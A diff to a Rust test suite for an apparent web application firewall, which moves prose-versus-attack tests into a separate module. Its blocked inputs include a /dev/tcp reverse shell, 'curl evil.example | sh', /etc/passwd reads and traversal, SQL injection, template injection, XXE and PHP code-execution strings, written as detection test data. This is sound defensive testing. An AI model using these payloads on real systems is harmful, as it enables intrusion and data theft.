@@ -40,6 +40,16 @@ fn passes(ins: Inspection) {
     assert!(!ins.blocked(DEFAULT_THRESHOLD), "blocked: {ins:?}");
 }
 
+/// Each line, sent as a JSON record's message, passes.
+#[track_caller]
+fn messages_pass(lines: &[&str]) {
+    for line in lines {
+        passes(message(line));
+    }
+}
+
+mod prose;
+
 #[test]
 fn sqli() {
     blocks(query("id=1%27%20UNION%2F**%2FSELECT%20password%20FROM%20users--"), Class::Sqli);
@@ -268,22 +278,6 @@ fn hostile_inputs_do_not_panic() {
 
 /// Evasions the CRS's own tests exercise, each with a near miss.
 #[test]
-fn random_passwords_are_not_code() {
-    // Generated passwords hold `$(`, `$x(`, `$_` and `$!` by chance; the
-    // shell and PHP need them closed and spliced into lower-case words.
-    for password in ["LHA7LXZp$(w5el", "Hj(n$A(cHmG&5X", "$YWPX(I)q08cq", "c$_HVfBy4f62N*", "J$!BA4ckat(0HO"]
-    {
-        passes(json(&format!(r#"{{"password":"{password}"}}"#)));
-    }
-    for attack in
-        ["x=$(id)", "x=w$@hoami", "x=c$!at%20/etc/passwd", "x=uname$u%20-a", "x=$a(1);", "x=$f($_GET[c])"]
-    {
-        let class = if attack.contains("$a(") || attack.contains("$f(") { Class::Php } else { Class::Rce };
-        blocks(query(attack), class);
-    }
-}
-
-#[test]
 fn evasions() {
     // PostgreSQL casts and JSON operators, glued operators, CASE tails.
     blocks(query("id=password::int"), Class::Sqli);
@@ -420,150 +414,9 @@ fn query_urls_to_other_sites_block() {
 }
 
 #[test]
-fn developer_prose_passes_and_its_attack_twins_block() {
-    for line in [
-        "bash (5.2.15-2) unstable; urgency=medium",
-        "Bash is distributed in the hope that it will be useful, but WITHOUT",
-        "Stop using debconf to select the default /bin/sh.",
-        "Use $(MAKE) instead of hard-coding the make command; pass CC=$(CC).",
-        "libxaw7{,-dbg} don't need to depend on x11-common.",
-        "* debian/{changelog,control}: add build-{arch,indep} targets",
-        "Files: src/*/ssl/keystore",
-        "File \"src/app/__init__.py\", line 3, in <module>",
-    ] {
-        passes(message(line));
-    }
-    blocks(query("a=bash%20-i%20>%26%20/dev/tcp/10.0.0.1/4444%200>%261"), Class::Rce);
-    blocks(query("a=curl%20evil.example%20|%20sh"), Class::Rce);
-    blocks(query("a=%3B/bin/sh"), Class::Rce);
-    blocks(query("a=c%7Ba,oun%7Dt%20/etc/passwd"), Class::Rce);
-    blocks(query("a=%7Bcat,/etc/passwd%7D"), Class::Rce);
-    blocks(query("a=%24(whoami)"), Class::Rce);
-    blocks(query("a=/???/c?t%20/???/p??s??"), Class::Rce);
-    blocks(query("test=DR/**/OP/*x*/sampletable"), Class::Sqli);
-    blocks(query("t={{''.__class__.__mro__[1].__subclasses__()}}"), Class::Template);
-    blocks(query("f=..0x2fetc/passwd"), Class::Lfi);
-    blocks(query("f=..%u2215..%u2215etc%u2215passwd"), Class::Lfi);
-    blocks(query("x=count(/child::node())"), Class::Sqli);
-    blocks(query("x='%23mysql"), Class::Sqli);
-    passes(json(r#"{"message":"pass '--add-udeb' to dh_makeshlibs; see 'man 2 syscall'"}"#));
-}
-
-#[test]
-fn a_search_for_a_tool_is_no_command_line() {
-    // A tool's name and plain words: a query or a title.
-    for q in ["python web framework", "curl examples", "bash scripting guide", "python repositories:>950"] {
-        passes(query(&format!("q={}", q.replace(' ', "+"))));
-        passes(json(&serde_json::json!({ "query": q }).to_string()));
-    }
-    passes(query("q=python+3.12+release+notes"));
-    // The same names with what a shell takes: a file, a host, an address.
-    blocks(query("code=python+exploit.py"), Class::Rce);
-    blocks(query("code=curl+evil.example/x.sh"), Class::Rce);
-    blocks(query("code=wget+10.0.0.1:8000"), Class::Rce);
-    // An administration tool's name is no topic: plain words suffice.
-    blocks(query("code=cscli+alerts+list"), Class::Rce);
-}
-
-#[test]
-fn quoted_operators_and_options_in_prose() {
-    for line in [
-        "RE: [JIRA] (PROJ-123) Login fails when password contains '&' or '<'",
-        "Is it \"color\" or \"colour\"?",
-        "Ask for \"SELECT\" or \"Premium\" tier at checkout.",
-        "100% satisfied -- 5 stars",
-        "What is the use case for this",
-    ] {
-        passes(message(line));
-    }
-    blocks(query("name=x%27%3D%27x%27%20or%20%27a"), Class::Sqli);
-    blocks(query("id=1%20--"), Class::Sqli);
-}
-
-#[test]
 fn xxe_in_a_doctype_is_seen() {
     let xxe = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
     blocks(typed("application/xml", xxe), Class::Xss);
-}
-
-#[test]
-fn weak_signs_add_up_within_one_value_only() {
-    // 1030 (a quoted word before a SQL keyword) and 3059 (a shell path) warn.
-    passes(json(
-        r#"{"a":"Merge branch 'topic' into develop","b":"Replace /usr/bin/ruby with the full path"}"#,
-    ));
-    let one = json(r#"{"a":"Merge branch 'topic' into develop; Replace /usr/bin/ruby with the full path"}"#);
-    assert!(one.blocked(DEFAULT_THRESHOLD), "{one:?}");
-    // A condition's tail, not English that opens with "And".
-    blocks(query("x=and%20password%20is%20not%20null"), Class::Sqli);
-    passes(text("And here is the reply I received from the support team"));
-    // C's conditions: one weak sign, not two.
-    passes(text("if (alpha > 0 && version == 11) { glBlendEquation(mode); }"));
-    // A hex literal is data: a tag, a pointer in a crash log.
-    passes(query("tag=0xabad1dea"));
-    passes(text("Object 0x3478e0f0 of class NSCFArray autoreleased with no pool in place"));
-}
-
-/// In a long value, weak signs add up only where they sit together
-/// (`locality`): the same two signs block in a short span of a long text
-/// and pass when a changelog's lines keep them apart.
-#[test]
-fn code_and_markdown_that_name_attack_words() {
-    passes(json(r#"{"body":"lua 3.0.1 [php](https://github.com/advisories/GHSA-x) 2.0"}"#));
-    blocks(query("x=[php]system('id');[/php]"), Class::Php);
-    passes(json(r#"{"body":"necesita tener mysql en el $PATH (se tiene que estar ejecutando)"}"#));
-    blocks(query("x=%24OOO0000O0%20%2816%29"), Class::Php);
-    blocks(query("f=%24a(1)"), Class::Php);
-    passes(json(r#"{"body":"while (!ports_.empty()) { ports_.pop_back(); }"}"#));
-    blocks(query("x=while(!0){}"), Class::Generic);
-    // A word command alone in backquotes: a code span in prose, command
-    // substitution in a short value.
-    let prose = "Adds two forms of ofToString, which behave like the arguments to `printf` \
-                 with a width and a fill character, so that padded numbers need no sprintf call.";
-    passes(json(&format!(r#"{{"body":"{prose}"}}"#)));
-    blocks(query("name=x%60id%60"), Class::Rce);
-    blocks(json(r#"{"name":"`id`"}"#), Class::Rce);
-    blocks(query("name=Ada%20%60id%60"), Class::Rce);
-    blocks(query("name=%60id%60%3Bx"), Class::Rce);
-    passes(json(r#"{"description":"The field `id` is guaranteed to be set."}"#));
-    // A glob's `/*/` segment is not an SQL comment; `DR/**/OP` is.
-    passes(json(r#"{"description":"Format: `projects/*/locations/*/keys/*`"}"#));
-    blocks(query("q=1%20DR/**/OP%20TABLE%20users"), Class::Sqli);
-    // `SELECT *` as SQL goes on, and as English does.
-    for attack in ["1 union select * from users--", "x';select * from users u where 1", "-1 union select *"] {
-        blocks(json(&format!(r#"{{"q":"{attack}"}}"#)), Class::Sqli);
-    }
-    passes(json(r#"{"q":"Select * from the menu is not a valid choice, waiter."}"#));
-}
-
-#[test]
-fn weak_signs_count_where_they_sit_together() {
-    let filler = "Fixed the build on the new toolchain and updated the docs.\n".repeat(12);
-    let apart =
-        format!("Merge branch 'topic' into develop\n{filler}Replace /usr/bin/ruby with the full path");
-    assert!(apart.len() > locality::LONG_VALUE);
-    passes(text(&apart));
-    let together =
-        format!("{filler}Merge branch 'topic' into develop; Replace /usr/bin/ruby with the full path");
-    blocks(text(&together), Class::Sqli);
-    // Critical signs count wherever they are.
-    blocks(text(&format!("{filler}{filler}1' UNION SELECT password FROM users--")), Class::Sqli);
-}
-
-#[test]
-fn prose_mentions_paths_and_calls_in_passing() {
-    passes(json(
-        r#"{"body":"The linker fails:\n\n../../../libs/poco/lib/libPocoNet.a was not found\nfrom the project generator, so copy(file) in the build script never runs"}"#,
-    ));
-    blocks(query("f=../../../libs/poco/lib/libPocoNet.a"), Class::Lfi);
-    blocks(query("f=copy($_GET['a'],'x.php')"), Class::Php);
-    // Strong signs still count in prose.
-    blocks(
-        json(
-            r#"{"body":"a long text of many words that reads as prose to the waf, then a path:\n../../../../etc/passwd"}"#,
-        ),
-        Class::Lfi,
-    );
 }
 
 #[test]
